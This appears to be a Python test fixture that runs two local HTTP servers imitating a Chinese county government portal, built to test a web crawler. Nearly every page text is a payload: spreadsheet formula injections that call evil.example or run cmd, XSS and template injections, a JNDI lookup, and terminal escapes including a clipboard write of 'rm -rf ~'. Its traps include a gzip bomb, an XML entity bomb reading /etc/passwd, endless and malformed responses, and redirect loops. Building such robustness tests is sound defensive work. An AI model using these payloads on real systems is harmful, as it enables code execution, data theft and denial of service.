"""A portal that means harm: every word it says is a payload, or every answer it gives is a trap."""

import gzip
import re
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from html import escape
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote, unquote_to_bytes, urlsplit

ESC, BEL = "\x1b", "\x07"
# What a page may say, by what it is after. `E` marks where a payload that must stay readable text begins.
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+2",
    "\n=1+3",
    "\u3000=1+4",
    "\xa0=1+5",
    "\u200b=1+6",
    "\ufeff=1+7",
    "＝1+8",
    "'=1+9",
    '"=1+10',
    '甲","=1+11',
    "乙;=1+12",
    '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=DDE("soffice";"/etc/passwd";"a")',
    '=IMPORTXML(CONCAT("http://evil.example/",A2:E2),"//a")',
)
MARKUP = (
    '"><svg onload=alert("owned")>',
    "'><img src=http://evil.example/x onerror=alert('owned')>",
    "</script><script>window.owned=1;alert('owned')</script>",
    '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
    "</style><style>@import url(http://evil.example/x.css)</style>",
    '<base href="http://evil.example/"><link rel=stylesheet href=//evil.example/x>',
    '<form action="http://evil.example/"><input autofocus onfocus=alert(1)></form>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "--><!--<script>alert(1)</script>",
    "]]><object data=//evil.example/x></object>",
    "&lt;script&gt;alert('twice')&lt;/script&gt;",
    "` onmouseover=alert(1) x=`",
)
TEMPLATES = (
    "{{7*7}}", "{% for x in range(3) %}49{% endfor %}", "${jndi:ldap://evil.example/a}", "{0.__class__}", "{url}",
    "%(name)s%n%s", "#{7*7}", "<%= 7*7 %>", "[bold red]红[/]", "[link=http://evil.example]字[/link]", ":skull:",
)  # fmt: skip
TERMINAL = (
    f"{ESC}]8;;http://evil.example/{ESC}\\点击{ESC}]8;;{ESC}\\",
    f"{ESC}]52;c;cm0gLXJmIH4={BEL}剪贴",
    f"{ESC}]0;owned{BEL}标题",
    f"{ESC}[2J{ESC}[H清屏",
    f"{ESC}[1A{ESC}[2K抹去上行",
    f"{ESC}P+q544e{ESC}\\终端",
    "\x9b2J八位",
    "\x9d0;owned\x9c八位标题",
    "公告\u202egnp.exe",
    "甲\u2066乙\u2069丙",
    "死链\r合格　　　　",
    "退格\x08\x08\x08\x08通过",
    "空\x00字节",
    "半\ud800个",
)
PAYLOADS = FORMULAS + MARKUP + TEMPLATES + TERMINAL
COLUMNS = (
    PAYLOADS[0],
    PAYLOADS[1],
    "-2+3",
    *MARKUP[:3],
    TEMPLATES[0],
    *TERMINAL[:4],
    TERMINAL[8],
    "＝1+8",
    "乙;=1+12",
)
MOVED_STEP = 5
LONG = "长" * 40_000
OLD = "2019-03-0"

Answer = tuple[int, list[tuple[bytes, bytes]], bytes]


def attribute(text: str) -> str:
    """As an attribute or text: the payload is what the page shows, not what breaks our own reading of it."""
    return escape(text).replace("\ud800", "&#xD800;").replace("\r", "&#13;")


class Payloads:
    """A county portal every word of which is a payload. `asked` lists the paths that were asked for."""

    def __init__(self) -> None:
        self.asked: list[str] = []

    def __call__(self, target: str, method: str) -> Answer:
        path = unquote_to_bytes(urlsplit(target).path).decode("utf-8", "replace")
        self.asked.append(path)
        html = [(b"Content-Type", b"text/html; charset=utf-8")]
        if path == "/":
            return 200, html, self.home()
        parts = path.strip("/").split("/")
        if parts[0] == "c" and len(parts) == 2 and int(parts[1]) < len(COLUMNS):
            return 200, html, self.column(int(parts[1]))
        if parts[0] == "k" and len(parts) == 2 and int(parts[1]) < len(COLUMNS):
            return 200, html, self.blank(int(parts[1]))
        if parts[0] == "moved":
            where = quote(PAYLOADS[int(parts[1])], safe="=;'|!@+()<>\"", errors="replace").encode()
            return 302, [(b"Location", b"/gone/" + where)], b""
        if parts[0] == "elsewhere":
            return (
                302,
                [
                    (
                        b"Location",
                        (b"javascript:alert(1)", b"file:///etc/passwd", b"//", b"\xff\xfe\x1b[2J")[
                            int(parts[1])
                        ],
                    )
                ],
                b"",
            )
        if parts[0] == "a":
            return 200, html, article(int(parts[1]))
        if parts[0] == "header":
            hostile = [(b"Server", b"\x1b]0;owned\x07=cmd|' /C calc'!A0"), (b"X-Note", b"<script>alert(1)</script>"),
                       (b"Content-Type", b"text/html\x1b[2J"), (b"Set-Cookie", b"=1+1=\x1b[2J; Domain=.example")]  # fmt: skip
            return 404, hostile, b"<title>404</title>"
        return 404, html, b"<html><title>404 Not Found</title></html>"

    def home(self) -> bytes:
        menu = "".join(f'<li><a href="/c/{n}/">{attribute(name)}</a></li>' for n, name in enumerate(COLUMNS))
        menu += "".join(f'<li><a href="/k/{n}/">{attribute(name)}</a></li>' for n, name in enumerate(COLUMNS))
        dead = "".join(
            f'<p><a href="/dead/{n}.html">{attribute(text)}</a></p>' for n, text in enumerate(PAYLOADS)
        )
        files = "".join(
            f'<p><a href="/files/{n}/{attribute(text.replace("#", "").replace("?", ""))}.pdf">附件{n}</a></p>'
            for n, text in enumerate(PAYLOADS)
        )
        moved = "".join(
            f'<p><a href="/moved/{n}/x.html">转{n}</a></p>' for n in range(0, len(PAYLOADS), MOVED_STEP)
        )
        moved += "".join(f'<p><a href="/elsewhere/{n}/x.html">走{n}</a></p>' for n in range(4))
        other = "".join(
            f'<p><a href="{attribute(raw)}">{attribute(raw)}</a></p>'
            for raw in ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
                        "vbscript:x", "http://[", "http://evil.example\\@x/", "//evil.example:99999/", *TEMPLATES)
        )  # fmt: skip
        foot = f"主办单位：青禾县人民政府办公室（）·=1 {attribute(MARKUP[0])} 网站标识码：9901230001 京ICP备12345678号 电话：0808-10126688"
        return page(
            "青禾县人民政府" + MARKUP[2],
            f'<div class="header"><div class="nav"><ul>{menu}</ul></div></div><div class="box">{dead}{files}{moved}{other}'
            f'<a href="/dead/long.html">{LONG}</a><a href="/header/x.html">头</a></div>'
            f"<script>document.write(\"<a href='/dead/w.html'>{MARKUP[1].replace(chr(39), '')}</a>\")</script>"
            f'<div class="footer">{foot}<img src="http://dcs.conac.cn/js/1/2/\x00\x1b[2J.js">'
            "<script src='http://dcs.conac.cn/js/01/000/0000/\x00CA010000000000000001.js'></script></div>",
            (("SiteIDCode", MARKUP[0] + FORMULAS[0] + TERMINAL[0]), ("SiteName", FORMULAS[0]), ("SiteDomain", TERMINAL[3])),
        )  # fmt: skip

    def column(self, number: int) -> bytes:
        rows = "".join(
            f'<li><a href="/{f"a/{n}/t20190301_{n}" if n % 8 else f"dead/{n}"}.html" title="{attribute(text)}">{attribute(text)}</a>'
            f"<span>{OLD}{1 + n % 9}</span></li>"
            for n, text in enumerate(PAYLOADS)
        )
        # the newest row, and so the quoted one, is another payload for each column
        rows += f'<li><a href="/a/1/t20190401_{number}.html">{attribute(PAYLOADS[(number * 5) % len(PAYLOADS)])}</a><span>2019-04-01</span></li>'
        return self.inner(number, f'<ul class="list">{rows}</ul>')

    def blank(self, number: int) -> bytes:
        return self.inner(
            number, '<div class="right"><ul class="list"></ul><script>createPageHTML(0,0,"index","html",0);</script></div>'
        )  # fmt: skip

    @staticmethod
    def inner(number: int, content: str) -> bytes:
        name = attribute(COLUMNS[number])
        return page(
            COLUMNS[number],
            f'<div class="crumb">当前位置：<a href="/">首页</a> &gt; <a href="/c/{number}/">{name}</a></div>{content}',
            (("ColumnName", COLUMNS[number]), ("ColumnType", "工作动态"), ("ColumnDescription", MARKUP[0])),
        )


def article(number: int) -> bytes:
    text = PAYLOADS[number % len(PAYLOADS)]
    metas = (("ArticleTitle", text), ("PubDate", "=1+1"), ("ContentSource", text))
    return page(text, f"<h1>{attribute(text)}</h1><p>来源：{attribute(text)} 发布时间：2019-03-01</p>", metas)


def page(title: str, body: str, metas: tuple[tuple[str, str], ...] = ()) -> bytes:
    told = "".join(f'<meta name="{name}" content="{attribute(content)}">' for name, content in metas)
    text = f"<!DOCTYPE html><html><head><meta charset=utf-8>{told}<title>{attribute(title)}</title></head><body>{body}</body></html>"
    return text.encode("utf-8", "replace")


# --- traps: answers that would make a crawler run on, run out or fall over ---------------------------------

Raw = Callable[[socket.socket, str], None]


def sent(connection: socket.socket, body: bytes, head: bytes = b"", status: bytes = b"200 OK") -> None:
    kind = b"" if b"content-type" in head.lower() else b"Content-Type: text/html\r\n"
    connection.sendall(
        b"HTTP/1.1 " + status + b"\r\n" + kind + head + b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(body) + body
    )  # fmt: skip


def endless(piece: bytes, opening: bytes) -> Raw:
    """The same piece again and again, until the other side hangs up."""

    def pour(connection: socket.socket, _: str) -> None:
        connection.sendall(opening)
        while True:
            connection.sendall(piece)

    return pour


def whole(body: bytes, head: bytes = b"", status: bytes = b"200 OK") -> Raw:
    return lambda connection, _: sent(connection, body, head, status)


def raw(answer: bytes) -> Raw:
    return lambda connection, _: connection.sendall(answer)


def html(body: bytes) -> bytes:
    return b"<html><head><title>t</title></head><body>" + body + b"</body></html>"


def number_of(target: str) -> int:
    found = re.search(r"\d+$", target)
    return int(found[0]) if found else 0


def redirect_on(connection: socket.socket, target: str) -> None:
    number = number_of(target)
    sent(connection, b"", b"Location: /redirect?n=%d\r\n" % (number + 1), b"302 Found")


def calendar(connection: socket.socket, target: str) -> None:
    """A page for every month that will ever be, each leading to the next as a list's next page."""
    month = number_of(target) or 1
    rows = "".join(
        f'<li><a href="/cal?d={month}-{day}">日程安排第{month}月{day}号</a><span>2026-06-1{day}</span></li>'
        for day in range(8)
    )
    sent(connection, html(f'<ul class="list">{rows}</ul><a href="/cal?m={month + 1}">下一页</a>'.encode()))


BIG = 5 * 1024 * 1024
CHUNKED = (
    b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
)
PLAIN = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"
PAGES: dict[str, Raw] = {
    "/oneline/": whole(html(b"a" * BIG)),
    "/deep/": whole(html(b"<div>" * 300_000)),
    "/deeplinks/": whole(html(b"<a href=x.html><div>" * 50_000)),
    "/comments/": whole(html(b"<!--" * 500_000)),
    "/tags/": whole(html(b"<" * 1_000_000)),
    "/many/": whole(html(b"".join(b'<p><a href="/m/%d.html">link %d</a></p>' % (n, n) for n in range(10_000)))),
    "/redirect": redirect_on,
    "/refresh/": whole(b'<html><meta http-equiv="refresh" content="0;url=/refresh2/"></html>'),
    "/refresh2/": whole(b'<html><meta http-equiv="refresh" content="0;url=/refresh/"></html>'),
    "/base/": whole(b'<html><base href="http://evil.invalid/"><body><a href="x/">x</a><img src="y.png"></body></html>'),
    "/utf7/": whole(html(b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"), b"Content-Type: text/html; charset=utf-7\r\n"),
    "/codec/": whole(html(b"eJwDAAAAAAE="), b"Content-Type: text/html; charset=zip\r\n"),
    "/idna/": whole(html(b"<a href='http://xn--a/'>a</a><a href='http://%ff/'>b</a>"), b"Content-Type: text/html; charset=idna\r\n"),
    "/bomb/": whole(gzip.compress(b"\0" * 80_000_000, 1), b"Content-Encoding: gzip\r\n"),
    "/layers/": whole(gzip.compress(gzip.compress(b"<p>" * 9)), b"Content-Encoding: gzip, gzip, br, zstd\r\n"),
}  # fmt: skip
ANSWERS: dict[str, Raw] = {
    "/short/": raw(PLAIN + b"Content-Length: 99999\r\nConnection: close\r\n\r\n<p>short"),
    "/long/": raw(PLAIN + b"Content-Length: 3\r\nConnection: close\r\n\r\n<p>longer than said"),
    "/negative/": raw(PLAIN + b"Content-Length: -5\r\n\r\n" + html(b"<p>a page of its own, whatever length it claims")),
    "/twolengths/": raw(PLAIN + b"Content-Length: 3\r\nContent-Length: 9\r\n\r\n<p>"),
    "/chunks/": raw(CHUNKED + b"zz\r\n\xff\xff\x00garbage"),
    "/hugechunk/": raw(CHUNKED + b"f" * 5000 + b"\r\nabc"),
    "/splitting/": raw(PLAIN + b"X-A: a\r\r\nX-B: b\n\nSet-Cookie: \x1b[2J=1\r\n\tfolded\r\nContent-Length: 3\r\n\r\n<p>"),
    "/noheader/": raw(b"<html><p>no header at all</html>"),
    "/status/": raw(b"HTTP/9.9 99999 \xff\x1b[2J\r\n\r\n"),
    "/continue/": endless(b"HTTP/1.1 100 Continue\r\n\r\n", b""),
    "/headers/": endless(b"X-Filler: " + b"a" * 15_000 + b"\r\n", PLAIN),
    "/headerline/": endless(b"a" * 65_536, PLAIN + b"X-Long: "),
    "/body/": endless(b"<p>" * 20_000, PLAIN + b"Connection: close\r\n\r\n"),
    "/chunkline/": endless(b"0" * 65_536, CHUNKED),
    "/sitemap.xml": whole(
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
        b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e SYSTEM "file:///etc/passwd">]>'
        b"<urlset><url><loc>&d;&e;</loc></url></urlset>",
        b"Content-Type: application/xml\r\n",
    ),
}  # fmt: skip
TRAPS = {**PAGES, **ANSWERS, "/cal": calendar}
STARS = b"Disallow: /" + b"*a" * 30 + b"*b$\n"
HUGE_ROBOTS = (
    b"User-agent: *\nDisallow: /forbidden/\n" + STARS + b"Allow: /" + b"x" * 100 + b"\n"
) + b"Disallow: /filler/0123456789\n" * 350_000


class Traps:
    """A portal whose menu leads into the traps at `links`. `asked` lists the targets that were asked for."""

    def __init__(self, links: list[str]) -> None:
        self.links = links
        self.asked: list[str] = []

    def __call__(self, connection: socket.socket, target: str) -> None:
        self.asked.append(target)
        path = target.partition("?")[0]
        if path == "/robots.txt":
            sent(connection, HUGE_ROBOTS, b"Content-Type: text/plain\r\n")
        elif path == "/":
            menu = "".join(f'<li><a href="{link}">栏目{n}</a></li>' for n, link in enumerate(self.links))
            sent(connection, html(f'<div class="nav"><ul>{menu}</ul></div>'.encode()))
        elif path in TRAPS:
            with suppress(OSError):
                TRAPS[path](connection, target)
        else:
            sent(connection, html(b"<p>nothing here</p>"), status=b"404 Not Found")


@contextmanager
def payload_portal() -> Iterator[tuple[str, Payloads]]:
    portal = Payloads()

    class Serve(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"
        disable_nagle_algorithm = True  # head and body leave in two pieces: the second would wait 40 ms

        def do_GET(self) -> None:
            status, heads, body = portal(self.path, self.command)
            lines = b"".join(name + b": " + value + b"\r\n" for name, value in heads)
            body = b"" if self.command == "HEAD" else body
            self.wfile.write(
                b"HTTP/1.1 %d \x1b[2J\r\n%sContent-Length: %d\r\n\r\n%s" % (status, lines, len(body), body)
            )

        do_HEAD = do_GET

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Serve)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/", portal
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@contextmanager
def trap_portal(links: list[str]) -> Iterator[tuple[str, Traps]]:
    """One connection a request, answered as the trap likes, then closed."""
    portal = Traps(links)
    stop = threading.Event()

    def serve(connection: socket.socket) -> None:
        with suppress(OSError), connection:
            connection.settimeout(20)
            head = b""
            while b"\r\n\r\n" not in head:
                got = connection.recv(65_536)
                if not got:
                    return
                head += got
            portal(connection, head.split(b" ", 2)[1].decode("latin-1"))

    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.1)

        def take() -> None:
            while not stop.is_set():
                with suppress(TimeoutError):
                    threading.Thread(target=serve, args=(server.accept()[0],), daemon=True).start()

        thread = threading.Thread(target=take, daemon=True)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.getsockname()[1]}/", portal
        finally:
            stop.set()
            thread.join()
